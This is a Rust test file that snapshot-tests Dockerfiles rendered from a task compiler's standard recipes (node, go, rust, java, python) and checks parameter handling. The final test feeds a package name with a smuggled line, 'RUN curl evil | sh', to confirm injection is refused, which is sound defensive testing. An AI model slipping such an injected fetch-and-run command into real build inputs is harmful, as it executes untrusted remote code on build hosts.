//! Every stdlib recipe renders with its defaults; the rendered Dockerfiles, side by side.
// Test code: an unwrap/expect/panic that fires is a failed test (the workspace lints deny
// them outside tests; clippy's `allow-*-in-tests` does not reach integration-test helpers).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
// compiler/clippy.toml keeps the library free of I/O; its tests and benches read fixtures.
#![allow(clippy::disallowed_methods, clippy::disallowed_types)]

mod plan_support;

use std::collections::BTreeMap;

use plan_support::cookie_split;
use taskc_compiler::lower::{lower_verify, LowerOptions};
use taskc_compiler::model::ParamValue;

fn render(recipe: &str, params: BTreeMap<String, ParamValue>) -> String {
    let mut t = cookie_split();
    t.env.recipe = recipe.to_string();
    t.env.params = params;
    match lower_verify(&t, &LowerOptions::default()) {
        Ok(plan) => plan.images.environment.dockerfile,
        Err(e) => format!("error: {e}"),
    }
}

#[test]
fn every_recipe_renders_with_its_defaults() {
    let mut out = String::new();
    for src in taskc_stdlib::RECIPES {
        let mut params = BTreeMap::new();
        if src.name == "generic" {
            params.insert(
                "dockerfile".to_string(),
                ParamValue::Str("RUN apt-get update && apt-get install -y make".to_string()),
            );
        }
        if src.name == "dockerfile" {
            params.insert(
                "dockerfile".to_string(),
                ParamValue::File {
                    path: "env/Dockerfile".to_string(),
                    text: "FROM taskc/base:bookworm\nRUN true\n".to_string(),
                    digest: "0".repeat(64),
                },
            );
        }
        out.push_str(&format!(
            "=== {} (defaults)\n{}\n",
            src.name,
            render(src.name, params)
        ));
    }
    insta::assert_snapshot!(out);
    assert!(!out.contains("error:"), "{out}");
}

#[test]
fn recipe_parameters_reach_the_dockerfile() {
    let list = |v: &[&str]| ParamValue::List(v.iter().map(|s| s.to_string()).collect());
    let cases: Vec<(&str, Vec<(&str, ParamValue)>)> = vec![
        (
            "node",
            vec![
                ("packages", list(&["jest@29"])),
                ("system-packages", list(&["make"])),
            ],
        ),
        (
            "go",
            vec![("packages", list(&["gotest.tools/gotestsum@v1.10.0"]))],
        ),
        ("rust", vec![("packages", list(&["cargo-nextest@0.9.48"]))]),
        ("rust", vec![("toolchain", ParamValue::Str("1.85".into()))]),
        (
            "java",
            vec![
                ("maven", ParamValue::Bool(false)),
                ("jdk", ParamValue::Str("21".into())),
            ],
        ),
        (
            "python",
            vec![
                ("version", ParamValue::Str("3.12".into())),
                ("packages", list(&["requests==2.31.0"])),
            ],
        ),
    ];
    let mut out = String::new();
    for (recipe, params) in cases {
        let params = params
            .into_iter()
            .map(|(k, v)| (k.to_string(), v))
            .collect();
        out.push_str(&format!("=== {recipe}\n{}\n", render(recipe, params)));
    }
    insta::assert_snapshot!(out);
}

#[test]
fn a_line_break_in_a_parameter_is_refused() {
    let mut params = BTreeMap::new();
    params.insert(
        "packages".to_string(),
        ParamValue::List(vec!["jest\nRUN curl evil | sh".to_string()]),
    );
    let e = render("node", params);
    assert!(e.starts_with("error:") && e.contains("line break"), "{e}");
}
